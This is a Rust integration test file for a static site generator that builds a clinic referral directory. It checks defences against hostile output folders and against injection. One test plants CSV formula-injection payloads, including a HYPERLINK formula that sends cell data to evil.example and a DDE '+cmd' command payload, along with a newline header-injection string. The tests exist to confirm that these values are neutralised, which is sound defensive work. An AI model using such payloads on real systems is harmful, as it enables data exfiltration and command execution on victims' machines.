//! Hostile input and hostile places: an output folder that is a link or belongs to someone
//! else, content that tries to inject lines or formulas, pages that would grow every page.
//! Each test is a reproduction from the adversarial review, built end to end.

mod common;

use std::fs;

use common::*;

#[cfg(unix)]
#[test]
fn a_linked_output_folder_is_written_through_and_nothing_outside_it_is_deleted() {
    let site = site_copy("minimal");
    settle(site.path());
    let tmp = tempfile::tempdir().unwrap();
    let real = tmp.path().join("real");
    build_ok(site.path(), &real, &[]);
    let count = files(&real).len();
    assert!(count > 20, "{count}");
    let neighbour = tmp.path().join("neighbour");
    fs::create_dir_all(neighbour.join("sub")).unwrap();
    fs::write(neighbour.join("sub/sitemap.xml"), "keep").unwrap();

    let public = tmp.path().join("public");
    std::os::unix::fs::symlink(&real, &public).unwrap();
    let o = build(site.path(), &public, &[]);
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(fs::symlink_metadata(&public)
        .unwrap()
        .file_type()
        .is_symlink());
    assert_eq!(files(&real).len(), count, "the link's target lost files");
    assert!(real.join("partners/sakura-naika/index.html").is_file());
    assert_eq!(read(&neighbour, "sub/sitemap.xml"), "keep");
    // Only the link, its target, the neighbour, and the record of the inputs the target was
    // built from and their parses (kept beside the real folder): no staging folder left behind.
    let mut names: Vec<_> = fs::read_dir(tmp.path())
        .unwrap()
        .map(|e| e.unwrap().file_name().into_string().unwrap())
        .collect();
    names.sort();
    assert_eq!(
        names,
        [
            ".renkei-inputs.real",
            ".renkei-parsed.real",
            "neighbour",
            "public",
            "real"
        ]
    );
}

/// A build killed by Ctrl+C or a time limit runs no clean-up: its staging folder (the whole
/// new site) and its temporary parses stay beside the output. The next build of that output
/// removes them, and nothing of anyone else's.
#[test]
fn a_killed_builds_leftovers_are_swept_by_the_next_build() {
    let site = site_copy("minimal");
    let root = site.path();
    let out = root.join("public");
    build_ok(root, &out, &[]);
    // Larger than any process number Linux gives: that build is gone.
    let staging = root.join(".public.renkei-new-999999999");
    fs::create_dir_all(staging.join("partners")).unwrap();
    fs::write(staging.join(".renkei-output"), "renkei").unwrap();
    fs::write(staging.join("partners/index.html"), "<p>half a site</p>").unwrap();
    let parses = root.join(".renkei-parsed.public.tmp-999999999");
    fs::write(&parses, "partners_only values").unwrap();
    // Its claim on the output, which no process holds any more.
    let claim = root.join(".renkei-lock.public.999999999");
    fs::write(&claim, "").unwrap();
    let mine = root.join(".public.renkei-new-999999999-notes");
    fs::create_dir_all(&mine).unwrap();

    build_ok(root, &out, &[]);
    assert!(
        !staging.exists(),
        "the killed build's staging folder is left"
    );
    assert!(!parses.exists(), "the killed build's parses are left");
    assert!(!claim.exists(), "the killed build's claim is left");
    assert!(
        !fs::read_dir(root).unwrap().any(|e| e
            .unwrap()
            .file_name()
            .to_string_lossy()
            .starts_with(".renkei-lock.")),
        "this build's own claim is left"
    );
    assert!(mine.is_dir(), "a folder renkei did not make was removed");
    assert!(out.join("index.html").is_file());
}

#[test]
fn a_folder_renkei_did_not_make_is_never_replaced() {
    let site = site_copy("minimal");
    let tmp = tempfile::tempdir().unwrap();
    // A Hugo site's output: it has a sitemap.xml, which once was taken as renkei's mark.
    let hugo = tmp.path().join("public");
    fs::create_dir_all(hugo.join("posts")).unwrap();
    fs::write(hugo.join("sitemap.xml"), "<urlset/>").unwrap();
    fs::write(hugo.join("posts/index.html"), "hugo").unwrap();
    let o = build(site.path(), &hugo, &[]);
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    assert!(stderr(&o).contains(".renkei-output"), "{}", stderr(&o));
    assert_eq!(read(&hugo, "posts/index.html"), "hugo");
    assert_eq!(files(&hugo).len(), 2);

    // renkei's own output carries the mark and is replaced build after build.
    let ours = tmp.path().join("ours");
    build_ok(site.path(), &ours, &[]);
    assert!(ours.join(".renkei-output").is_file());
    build_ok(site.path(), &ours, &[]);
}

#[test]
fn an_output_folder_inside_the_content_or_themes_is_refused() {
    let site = site_copy("minimal");
    for out in ["content/static/pub", "themes/default/static/out", "content"] {
        let target = site.path().join(out);
        let o = build(site.path(), &target, &["--profile", "partners"]);
        assert_eq!(o.status.code(), Some(2), "{out}: {}", stderr(&o));
        assert!(stderr(&o).contains("の中です"), "{out}: {}", stderr(&o));
    }
    assert!(!site.path().join("content/static/pub").exists());
    assert!(!site.path().join("themes").exists());
    // The default, public/ beside content/, is fine.
    build_ok(site.path(), &site.path().join("public"), &[]);
}

#[test]
fn base_url_flag_cannot_inject_lines() {
    let site = site_copy("minimal");
    let out = site.path().join("public");
    let o = build(
        site.path(),
        &out,
        &["--base-url", "https://a.example/\nX-INJ:1/"],
    );
    // A wrong flag is a usage problem (exit 2), reported against the flag.
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    assert!(
        stderr(&o).contains("改行") && stderr(&o).contains("--base-url"),
        "{}",
        stderr(&o)
    );
    assert!(!out.exists());
}

/// Cells of an RFC 4180 file, enough for the exports.
fn csv_cells(text: &str) -> Vec<String> {
    let mut cells = Vec::new();
    let mut cell = String::new();
    let mut quoted = false;
    let mut chars = text.trim_start_matches('\u{feff}').chars().peekable();
    while let Some(c) = chars.next() {
        match (c, quoted) {
            ('"', true) if chars.peek() == Some(&'"') => {
                cell.push('"');
                chars.next();
            }
            ('"', _) => quoted = !quoted,
            (',' | '\n', false) => cells.push(std::mem::take(&mut cell)),
            ('\r', false) => {}
            _ => cell.push(c),
        }
    }
    cells
}

#[test]
fn exported_csv_never_holds_a_formula_and_json_keeps_the_value() {
    let site = site_copy("minimal");
    let sakura = "content/partners/sakura-naika.md";
    replace(
        site.path(),
        sakura,
        "name: さくら内科クリニック",
        "name: '=HYPERLINK(\"https://evil.example/?x=\"&A2,\"詳細はこちら\")'",
    );
    replace(
        site.path(),
        sakura,
        "text: 汐見県みなと市本町2丁目3-4",
        "text: \"+cmd|' /C calc'!A0\"",
    );
    replace(
        site.path(),
        sakura,
        "director: {name: 佐藤 一郎",
        "director: {name: \"@SUM(1+1)\"",
    );
    replace(
        site.path(),
        "content/doctors/dr-sato.md",
        "specialties: [糖尿病, 在宅緩和ケア]",
        "specialties: [\"-2+3\", 在宅緩和ケア]",
    );
    let out = site.path().join("public");
    build_ok(site.path(), &out, &[]);
    for name in ["partners", "care", "doctors"] {
        let text = read(&out, &format!("data/{name}.csv"));
        for cell in csv_cells(&text) {
            let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
                && cell.trim().parse::<f64>().is_err();
            assert!(!risky, "data/{name}.csv has a formula cell: {cell:?}");
        }
    }
    let partners = read(&out, "data/partners.csv");
    assert!(partners.contains("'=HYPERLINK("), "{partners}");
    assert!(partners.contains("'+cmd|"));
    assert!(partners.contains("'@SUM(1+1)"));
    assert!(read(&out, "data/doctors.csv").contains("'-2+3"));
    assert!(read(&out, "data/partners.json").contains("\"=HYPERLINK("));
}

#[test]
fn the_footer_lists_only_the_pages_that_ask_for_it() {
    let site = site_copy("minimal");
    let out = site.path().join("public");
    build_ok(site.path(), &out, &[]);
    let before = read(&out, "referral/index.html").len();
    for i in 0..300 {
        fs::write(
            site.path().join(format!("content/pages/p{i:03}.md")),
            format!("---\ntitle: ページ {i}\n---\n\n本文\n"),
        )
        .unwrap();
    }
    fs::write(
        site.path().join("content/pages/privacy.md"),
        "---\ntitle: 個人情報の取り扱い\nfooter: 1\n---\n\n本文\n",
    )
    .unwrap();
    build_ok(site.path(), &out, &[]);
    let page = read(&out, "referral/index.html");
    assert!(
        !page.contains("/renkei/p150/"),
        "every page listed in the footer"
    );
    assert!(
        page.contains("/renkei/privacy/"),
        "a footer: page is listed"
    );
    assert!(
        page.len() < before + 500,
        "{before} → {} bytes: 300 pages grew every page",
        page.len()
    );
}

#[test]
fn a_broken_raw_html_link_is_blamed_on_the_file_whose_page_has_it() {
    let site = site_copy("minimal");
    let sakura = "content/partners/sakura-naika.md";
    replace(
        site.path(),
        sakura,
        "訪問診療に対応しています。",
        "訪問診療に対応しています。<a href=\"/referral/#nope\">流れ</a>",
    );
    // The same text in another file, not as a link.
    replace(
        site.path(),
        "content/news/fax-hours.md",
        "16時までとします。",
        "16時までとします。書式の例 (/referral/#nope)",
    );
    let o = renkei(&[
        "check",
        "--root",
        site.path().to_str().unwrap(),
        "--date",
        "2026-11-25",
    ]);
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    let err = stderr(&o);
    let blamed: Vec<&str> = err
        .lines()
        .filter(|l| l.starts_with("content/") && l.contains("#nope"))
        .collect();
    assert!(
        blamed.len() == 1 && blamed[0].starts_with(&format!("{sakura}:31:")),
        "{err}"
    );
}

#[test]
fn every_one_of_many_broken_links_is_reported_at_its_own_line() {
    let site = site_copy("minimal");
    let path = site.path().join("content/partners/sakura-naika.md");
    let mut text = fs::read_to_string(&path).unwrap();
    let first_line = text.lines().count() + 2;
    text.push('\n');
    for i in 0..300 {
        text.push_str(&format!(
            "[x{i}](/nope{i}/) と <a href=\"/gone{i}/\">y</a>\n"
        ));
    }
    fs::write(&path, text).unwrap();
    let o = renkei(&[
        "check",
        "--root",
        site.path().to_str().unwrap(),
        "--date",
        "2026-11-25",
    ]);
    assert_eq!(o.status.code(), Some(1));
    let err = stderr(&o);
    for i in [0, 150, 299] {
        let at = format!("content/partners/sakura-naika.md:{}:", first_line + i);
        for href in [format!("/nope{i}/"), format!("/gone{i}/")] {
            assert!(
                err.lines()
                    .any(|l| l.starts_with(&at) && l.contains(&format!("「{href}」"))),
                "{href} not at {at}:\n{}",
                err.chars().take(2000).collect::<String>()
            );
        }
    }
    assert!(err.contains(&format!(
        "content/partners/sakura-naika.md:{first_line}:6: リンク「/nope0/」"
    )));
    assert!(
        err.contains("エラー 600 件"),
        "{}",
        err.lines().last().unwrap_or("")
    );
}

#[test]
fn a_body_never_takes_an_id_the_sites_own_theme_writes() {
    let site = site_copy("minimal");
    replace(
        site.path(),
        "content/site.yaml",
        "theme: default",
        "theme: mine",
    );
    let page = fs::read_to_string(repo().join("themes/default/templates/page.html")).unwrap();
    let own = page.replacen(
        "{% block content %}",
        "{% block content %}<div id=\"clinic-map\"></div>",
        1,
    );
    assert_ne!(own, page);
    let dir = site.path().join("themes/mine/templates");
    fs::create_dir_all(&dir).unwrap();
    fs::write(dir.join("page.html"), own).unwrap();
    let referral = site.path().join("content/pages/referral.md");
    let text = fs::read_to_string(&referral).unwrap();
    fs::write(
        &referral,
        format!("{text}\n## Clinic Map\n\n地図です。\n## Main\n"),
    )
    .unwrap();
    let out = site.path().join("public");
    build_ok(site.path(), &out, &[]);
    let html = read(&out, "referral/index.html");
    assert_eq!(html.matches("id=\"clinic-map\"").count(), 1, "{html}");
    assert!(
        html.contains("<h2 id=\"clinic-map-1\">Clinic Map</h2>"),
        "{html}"
    );
    assert!(html.contains("<h2 id=\"main-1\">Main</h2>"), "{html}");
}
